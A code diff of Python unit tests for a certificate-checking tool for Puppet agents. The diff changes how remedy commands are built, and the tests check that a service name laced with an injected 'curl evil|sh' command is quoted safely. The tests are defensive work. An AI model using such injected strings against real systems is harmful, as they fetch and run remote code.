@@ -21,7 +21,6 @@ from recert.findings import FindingKind, Flaw
 from recert.looks import HostLook
 from recert.observed import FileState, LastRun, Service
 from recert.others import PRIVATE_KEY, Stray
-from recert.problems import start_remedy
 from recert.report import CertificateRecord, Problem, Role, Severity, Standing
 from recert.survey import SiteState
 from tests.unit.agent import AGENT, SERIAL, agent
@@ -375,8 +374,8 @@ def test_a_windows_agent_is_judged_by_its_own_places() -> None:
     remedies = {p.subject: p.remedy for p in state.problems}
     assert remedies["pe-puppet"].startswith("net start pe-puppet;")
     hostile = "x;curl evil|sh&whoami"
-    assert "'x;curl evil|sh&whoami'" in start_remedy(look_at_master(master()), hostile)
-    assert '"x;curl evil|sh&whoami"' in start_remedy(seen, hostile)
+    assert "'x;curl evil|sh&whoami'" in look_at_master(master()).kind.start(hostile)
+    assert '"x;curl evil|sh&whoami"' in seen.kind.start(hostile)
     placed = record(state, f"{place}/etc/a.pem", "win01")
     assert (placed.owner, placed.mode) == ("", "")
 
